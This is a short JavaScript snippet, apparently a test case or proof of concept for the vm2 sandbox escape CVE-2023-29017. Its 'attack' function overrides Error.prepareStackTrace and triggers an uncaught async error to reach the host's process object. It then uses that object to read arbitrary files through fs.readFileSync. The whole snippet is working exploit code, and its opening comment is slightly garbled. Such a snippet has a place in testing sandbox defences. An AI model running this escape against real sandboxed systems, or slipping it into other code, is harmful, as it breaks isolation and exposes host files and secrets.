// The same of an error that nobody catches, in an async function.
// after: read
// source: vm2: CVE-2023-29017
async function attack({ path }) {
  let process;
  Error.prepareStackTrace = (_, frames) => { process ??= frames.map((frame) => frame.getThis()).find((self) => self?.process)?.process ?? (() => {}).constructor('return typeof process === "undefined" ? undefined : process')(); return ''; };
  (async () => { null.x; })().catch((error) => error.stack);
  await undefined;
  return { text: await process.mainModule.require('fs').readFileSync(path) };
}
